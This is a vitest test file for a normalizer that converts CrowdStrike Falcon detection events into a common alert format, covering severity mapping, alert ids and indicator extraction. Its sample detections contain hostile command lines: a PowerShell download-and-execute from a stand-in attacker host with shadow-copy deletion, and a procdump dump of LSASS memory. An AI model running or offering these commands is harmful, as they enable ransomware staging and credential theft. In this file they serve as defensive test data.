import { describe, expect, it } from 'vitest';
import { crowdstrikeNormalizer } from './crowdstrike.normalizer';
import type { JsonRecord, NormalizeContext } from './types';

const ctx: NormalizeContext = { receivedAt: new Date('2024-06-01T12:00:00.000Z') };
const normalize = (payload: JsonRecord, context: NormalizeContext = ctx) => crowdstrikeNormalizer.normalize(payload, context);

const seedDetection = {
  metadata: { eventType: 'DetectionSummaryEvent', eventCreationTime: 1705320000000 },
  event: { DetectId: 'ldt:abc123', Severity: 4, HostnameField: 'WORKSTATION-01', DetectName: 'Malicious File Detected' },
};

/** A legacy detection with the fields the streaming API event dictionary lists. */
const fullDetection = {
  metadata: {
    customerIDString: '0123456789abcdef0123456789abcdef',
    offset: 14947764,
    eventType: 'DetectionSummaryEvent',
    eventCreationTime: 1705320000000,
    version: '1.0',
  },
  event: {
    ProcessStartTime: 1705319990,
    ProcessEndTime: 0,
    ProcessId: 38684386611,
    ParentProcessId: 38682494050,
    ComputerName: 'FIN-LT-0231',
    UserName: 'jdoe',
    DetectName: 'Ransomware',
    DetectDescription: 'A process attempted to delete volume shadow copies.',
    Severity: 5,
    SeverityName: 'Critical',
    FileName: 'vssadmin.exe',
    FilePath: '\\Device\\HarddiskVolume2\\Windows\\System32',
    CommandLine: 'powershell -nop -c "iwr http://198.51.100.77/stage2.ps1 | iex"; vssadmin delete shadows /all /quiet',
    SHA256String: '275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F',
    MD5String: '44d88612fea8a8f36de82e1278abb02f',
    SHA1String: '0000000000000000000000000000000000000000',
    MachineDomain: 'CORP',
    FalconHostLink: 'https://falcon.crowdstrike.com/activity/detections/detail/0123/4567',
    SensorId: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
    DetectId: 'ldt:a1b2c3d4e5f60718293a4b5c6d7e8f90:4295536142',
    LocalIP: '10.20.30.40',
    MACAddress: '00-15-5d-01-02-03',
    Tactic: 'Impact',
    Technique: 'Inhibit System Recovery',
    Objective: 'Falcon Detection Method',
    PatternDispositionDescription: 'Prevention, process killed.',
    PatternDispositionValue: 16,
    IOCType: 'hash_sha256',
    IOCValue: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
    NetworkAccesses: [{ AccessType: 0, Protocol: 'TCP', RemoteAddress: '198.51.100.77', RemotePort: 80, LocalAddress: '10.20.30.40', LocalPort: 50123 }],
    DnsRequests: [{ CausedDetect: false, DomainName: 'stage.evil.example', RequestType: 'A' }],
  },
};

/** The current detection event: 0–100 severity, composite ids. */
const eppDetection = {
  metadata: {
    customerIDString: '0123456789abcdef0123456789abcdef',
    offset: 2201,
    eventType: 'EppDetectionSummaryEvent',
    eventCreationTime: 1705320000123,
    version: '1.0',
  },
  event: {
    AgentId: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
    AggregateId: 'aggind:a1b2c3d4e5f60718293a4b5c6d7e8f90:8592651367',
    CompositeId: '0123456789abcdef0123456789abcdef:ind:a1b2c3d4e5f60718293a4b5c6d7e8f90:8592651367-10304-1234',
    Hostname: 'SRV-DB-02',
    LogonDomain: 'CORP',
    UserName: 'svc_sql',
    Name: 'CredentialDumping',
    Description: 'A process accessed LSASS memory in a way consistent with credential theft.',
    Severity: 70,
    SeverityName: 'High',
    Tactic: 'Credential Access',
    Technique: 'OS Credential Dumping',
    FileName: 'procdump64.exe',
    SHA256String: '8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec',
    MD5String: 'd41d8cd98f00b204e9800998ecf8427e',
    SHA1String: '5f1e8acedc065031aad553b710838eb366cfee9a',
    CommandLine: 'procdump64.exe -ma lsass.exe C:\\temp\\l.dmp',
    LocalIPv4: '10.20.30.41',
    LocalIPv6: 'fe80::1c2b:3a4d:5e6f:7081',
    FalconHostLink: 'https://falcon.crowdstrike.com/activity-v2/detections/0123:ind:a1b2',
  },
};

describe('CrowdStrike Falcon normalizer', () => {
  it("normalizes the contract's detection, reading Severity 4 on the 1–5 scale", () => {
    expect(normalize(seedDetection)).toEqual([
      {
        vendor: 'crowdstrike',
        vendor_alert_id: 'ldt:abc123',
        title: 'Malicious File Detected',
        severity: 'high',
        raw_severity: '4',
        occurred_at: '2024-01-15T12:00:00.000Z',
        category: null,
        host: 'WORKSTATION-01',
        indicators: { emails: [], urls: [], domains: [], ips: [], hashes: [] },
        action: 'trigger',
        normalization: 'vendor',
      },
    ]);
  });

  it('reads a full DetectionSummaryEvent: host, user, tactic, hashes, IOC, network and DNS evidence', () => {
    expect(normalize(fullDetection)[0]).toEqual({
      vendor: 'crowdstrike',
      vendor_alert_id: 'ldt:a1b2c3d4e5f60718293a4b5c6d7e8f90:4295536142',
      title: 'Ransomware',
      severity: 'critical',
      raw_severity: '5',
      occurred_at: '2024-01-15T12:00:00.000Z',
      category: 'Impact',
      host: 'FIN-LT-0231',
      user: 'jdoe',
      indicators: {
        emails: [],
        urls: ['http://198.51.100.77/stage2.ps1'],
        domains: ['stage.evil.example'],
        // The all-zero SHA1String is Falcon's "not computed", not a hash.
        ips: ['10.20.30.40', '198.51.100.77'],
        hashes: ['275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f', '44d88612fea8a8f36de82e1278abb02f'],
      },
      action: 'trigger',
      normalization: 'vendor',
    });
  });

  it('reads an EppDetectionSummaryEvent: composite id, 0–100 severity, Hostname, LocalIPv4', () => {
    expect(normalize(eppDetection)[0]).toEqual({
      vendor: 'crowdstrike',
      vendor_alert_id: '0123456789abcdef0123456789abcdef:ind:a1b2c3d4e5f60718293a4b5c6d7e8f90:8592651367-10304-1234',
      title: 'CredentialDumping',
      severity: 'high',
      raw_severity: '70',
      occurred_at: '2024-01-15T12:00:00.123Z',
      category: 'Credential Access',
      host: 'SRV-DB-02',
      user: 'svc_sql',
      indicators: {
        emails: [],
        urls: [],
        domains: [],
        ips: ['10.20.30.41', 'fe80::1c2b:3a4d:5e6f:7081'],
        hashes: [
          '8963a19fb992ad9a76576c5638fd68292cffb9aaac29eb8285f9abf6196a7dec',
          '5f1e8acedc065031aad553b710838eb366cfee9a',
          'd41d8cd98f00b204e9800998ecf8427e',
        ],
      },
      action: 'trigger',
      normalization: 'vendor',
    });
  });

  it('maps the 0–100 scale by bands when no SeverityName is sent', () => {
    const severityOf = (Severity: number) =>
      normalize({ ...eppDetection, event: { ...eppDetection.event, Severity, SeverityName: undefined } })[0]?.severity;
    expect([severityOf(10), severityOf(30), severityOf(50), severityOf(70), severityOf(90)]).toEqual([
      'info', 'low', 'medium', 'high', 'critical',
    ]);
  });

  it('maps the 1–5 scale of legacy detections', () => {
    const severityOf = (Severity: number) => normalize({ ...seedDetection, event: { ...seedDetection.event, Severity } })[0]?.severity;
    expect([1, 2, 3, 4, 5].map(severityOf)).toEqual(['info', 'low', 'medium', 'high', 'critical']);
  });

  it("lets SeverityName, the vendor's own reading, decide when the number's scale is ambiguous", () => {
    const [alert] = normalize({ ...eppDetection, event: { ...eppDetection.event, Severity: 4, SeverityName: 'High' } });
    expect(alert).toMatchObject({ severity: 'high', raw_severity: '4' });
  });

  it("applies the source's mapping to the numeric value or to SeverityName", () => {
    expect(normalize(seedDetection, { ...ctx, severityMapping: { '4': 'critical' } })[0]?.severity).toBe('critical');
    expect(normalize(eppDetection, { ...ctx, severityMapping: { HIGH: 'medium' } })[0]?.severity).toBe('medium');
  });

  it('uses AggregateId when an EPP detection has no CompositeId', () => {
    const [alert] = normalize({ ...eppDetection, event: { ...eppDetection.event, CompositeId: undefined } });
    expect(alert?.vendor_alert_id).toBe('aggind:a1b2c3d4e5f60718293a4b5c6d7e8f90:8592651367');
  });

  it('derives the same id for an event Falcon re-sends at a new stream offset', () => {
    const event = { ComputerName: 'WS-1', Severity: 3, DetectName: 'Suspicious Activity' };
    const first = normalize({ metadata: { ...fullDetection.metadata, offset: 1 }, event });
    const replay = normalize({ metadata: { ...fullDetection.metadata, offset: 999 }, event });
    expect(first[0]?.vendor_alert_id).toMatch(/^sha256:/);
    expect(first[0]?.vendor_alert_id).toBe(replay[0]?.vendor_alert_id);
  });

  it('fits events with metadata.eventType and an event object only', () => {
    expect(crowdstrikeNormalizer.matches(seedDetection)).toBe(true);
    expect(crowdstrikeNormalizer.matches({ metadata: { eventType: 'DetectionSummaryEvent' } })).toBe(false);
    expect(crowdstrikeNormalizer.matches({ metadata: {}, event: {} })).toBe(false);
  });
});
